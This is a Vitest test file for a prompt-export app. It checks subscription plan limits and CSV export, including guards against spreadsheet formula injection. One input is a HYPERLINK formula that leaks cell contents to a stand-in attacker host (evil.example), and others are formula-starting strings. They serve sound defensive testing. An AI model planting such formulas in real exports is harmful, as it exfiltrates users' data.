import { describe, expect, it } from 'vitest';
import fc from 'fast-check';
import { csvCell, csvFileName, csvHeader, guardFormulas, toCsvLine, unguardFormulas } from './csv.js';
import { isAtLimit, isNearLimit, planForTier, planLimits, remaining } from './plans.js';

describe('plans (spec §9)', () => {
  it('has Free 5/2, Pro 100/100, Max unlimited', () => {
    expect(planLimits).toEqual({ free: { prompts: 5, templates: 2 }, pro: { prompts: 100, templates: 100 }, max: { prompts: null, templates: null } });
  });
  it('maps Premium to Pro and Enterprise to Max', () => {
    expect(planForTier('Premium')).toBe('pro');
    expect(planForTier('Enterprise')).toBe('max');
    expect(planForTier(null)).toBe('free');
  });
  it('is at the limit at the limit, never when unlimited', () => {
    expect(isAtLimit({ used: 4, limit: 5 })).toBe(false);
    expect(isAtLimit({ used: 5, limit: 5 })).toBe(true);
    expect(isAtLimit({ used: 10_000, limit: null })).toBe(false);
    expect(remaining({ used: 1, limit: 2 })).toBe(1);
    expect(remaining({ used: 3, limit: null })).toBeNull();
  });
  it('warns above 80 percent of a finite limit', () => {
    expect(isNearLimit({ used: 4, limit: 5 })).toBe(false);
    expect(isNearLimit({ used: 81, limit: 100 })).toBe(true);
    expect(isNearLimit({ used: 5, limit: null })).toBe(false);
  });
});

describe('CSV export (spec §9)', () => {
  it('has the spec columns in order', () => {
    expect(csvHeader()).toBe('Title,Description,Content,Tags,Is Template,Created At,Updated At');
  });
  it('joins tags with "; " and writes Yes/No', () => {
    expect(toCsvLine({ title: 'T', description: '', content: 'C', tags: ['a', 'b'], isTemplate: true, createdAt: '2026-01-01T00:00:00.000Z', updatedAt: '2026-01-02T00:00:00.000Z' }))
      .toBe('"T","","C","a; b","Yes","2026-01-01T00:00:00.000Z","2026-01-02T00:00:00.000Z"');
  });
  it('quotes every cell, doubles quotes, and defuses spreadsheet formulas', () => {
    expect(csvCell('plain')).toBe('"plain"');
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('line\nbreak')).toBe('"line\nbreak"');
    for (const start of ['=', '+', '-', '@', '\t', '\r']) expect(csvCell(`${start}SUM(A1)`)).toBe(`"'${start}SUM(A1)"`);
  });
  it('defuses a formula after a ";" or "," too, where a spreadsheet splitting on either starts a cell', () => {
    expect(csvCell('x;=1+1')).toBe(`"x;'=1+1"`);
    expect(csvCell('x,@cmd;+1,-2')).toBe(`"x,'@cmd;'+1,'-2"`);
    expect(csvCell('a; -b')).toBe('"a; -b"');
    // Apostrophes already there get one more, so that reading back can tell ours from the user's.
    expect(csvCell("x;'=1")).toBe(`"x;''=1"`);
  });
  it('defuses a formula after a line break or a tab, where a spreadsheet starts a row or a cell', () => {
    expect(csvCell('Summary\n=HYPERLINK("https://evil.example/?"&A1,"Click")')).toBe(`"Summary\n'=HYPERLINK(""https://evil.example/?""&A1,""Click"")"`);
    expect(csvCell('x\t=1+1')).toBe(`"x\t'=1+1"`);
    expect(csvCell('a\r\n+1\r@b')).toBe(`"a\r\n'+1\r'@b"`);
    // Tab and CR are both separators and formula characters: each one that starts a cell is guarded.
    expect(csvCell('\t\t=1')).toBe(`"'\t'\t'=1"`);
    expect(unguardFormulas(guardFormulas("\n'\t=x"))).toBe("\n'\t=x");
  });
  it('reads back exactly what it guarded, whatever the text', () => {
    const text = fc.string({ unit: fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', ';', ',', "'", 'a', ' ') });
    fc.assert(fc.property(text, (value) => unguardFormulas(guardFormulas(value)) === value));
    // Nothing a spreadsheet would run is left: no formula character at a cell start without its apostrophe.
    fc.assert(fc.property(text, (value) => !/(?<=^|[;,\n\r\t])[=+\-@\t\r]/.test(guardFormulas(value))));
  });
  it('names the file prompts-export-yyyy-mm-dd.csv', () => {
    expect(csvFileName(new Date('2026-11-22T10:00:00Z'))).toBe('prompts-export-2026-11-22.csv');
  });
});
